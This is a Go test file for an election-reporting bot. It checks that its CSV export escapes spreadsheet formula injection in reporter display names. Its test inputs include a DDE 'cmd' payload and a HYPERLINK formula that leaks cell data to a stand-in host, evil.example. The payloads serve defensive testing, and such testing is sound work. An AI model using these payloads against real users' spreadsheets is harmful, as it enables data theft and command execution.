package models_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"

	"electionbot/internal/testdb"
	"electionbot/models"
)

func TestSafeCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                        "",
		"Nguyễn Văn An":           "Nguyễn Văn An",
		"=HYPERLINK(\"x\",\"y\")": "'=HYPERLINK(\"x\",\"y\")",
		"+cmd|' /C calc'!A0":      "'+cmd|' /C calc'!A0",
		"-2+3":                    "'-2+3",
		"@SUM(A1)":                "'@SUM(A1)",
		"\t=1":                    "'\t=1",
		"\r=1":                    "'\r=1",
		"-5":                      "-5",
		"+84912345678":            "+84912345678",
		"21.53020":                "21.53020",
		"a=b":                     "a=b",
	} {
		if got := models.SafeCSVCell(in); got != want {
			t.Errorf("SafeCSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportNeutralisesFormulaNames is finding 5 of issue 17: a reporter
// may call themselves "=HYPERLINK(…)" on Telegram; the CSV export (CLI
// and chat /xuat) wrote it raw, and a spreadsheet opening the file ran it.
func TestExportNeutralisesFormulaNames(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"bấm")`
	for _, n := range testdb.Stores(t) {
		t.Run(n.Name, func(t *testing.T) {
			ctx := context.Background()
			f := newOfficialsFixture(t, n.Store)
			f.rep1.DisplayName = evil
			if err := f.s.SaveContact(ctx, f.rep1); err != nil {
				t.Fatal(err)
			}
			kp1 := f.areas[0]
			if _, err := f.s.SubmitTally(ctx, models.TallySubmission{AreaID: kp1.ID, ReporterID: f.rep1.ID, Numbers: kp1Numbers(250, 35)}); err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			if err := f.s.ExportResults(ctx, "ka-long-2022", "csv", &buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := -1
			for i, h := range rows[0] {
				if h == "reporter" {
					col = i
				}
			}
			if got := rows[1][col]; got != "'"+evil {
				t.Fatalf("reporter cell = %q, want the name as text (%q)", got, "'"+evil)
			}
			for _, row := range rows[1:] {
				for i, cell := range row {
					if cell != "" && (cell[0] == '=' || cell[0] == '@') {
						t.Errorf("%s = %q: a formula", rows[0][i], cell)
					}
				}
			}
		})
	}
}
